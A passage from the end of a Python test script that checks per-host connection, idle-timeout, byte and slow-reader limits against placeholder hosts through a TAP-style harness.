        limits = {"limits": [row("web.example", other.port, addresses=OPENED)],
                  "bytes": [row("source.example", more.port, addresses=OPENED)]}
        with Rows(dns, limits, connections=2, idle="1s", bytes=BYTES_MAX) as rows:
            tap.case("row 26: connections of a job", row_26_connections, rows, other)
            tap.case("row 26: an idle connection", row_26_idle, rows, other)
            tap.case("row 26: bytes of a job", row_26_bytes, rows, more)
        with Rows(dns, {"slow": limits["bytes"]}, idle="1s") as rows:
            tap.case("row 26: a reader that does not read", row_26_slow_reader, rows, more)


def main():
    with resolver() as dns, Upstream() as upstream, Source() as source:
        cases(dns, upstream, source)


if __name__ == "__main__":
    if sys.argv[1:] == ["--own-addresses"]:
        own_addresses_within()
        sys.exit(0)
    sys.exit(tap.main(main))
